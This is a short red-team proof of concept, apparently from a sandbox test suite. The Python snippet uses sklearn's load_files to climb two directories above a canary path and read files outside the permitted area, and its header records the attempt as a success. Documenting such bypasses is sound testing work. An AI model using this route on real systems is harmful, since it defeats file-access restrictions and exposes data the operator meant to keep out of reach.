# (f) sklearn.datasets.load_files reads every file under any directory; driver sees canary bytes in result
# red team 2026-12-07, docs/redteam-2026-12-07/success_13_sklearn_load_files.py.txt
from sklearn.datasets import load_files

p = "{CANARY}"
root = p[: p.rfind("/")]
root = root[: root.rfind("/")]
b = load_files(root, categories=["outside"], allowed_extensions=[".txt"])
result = b.data
print(result)
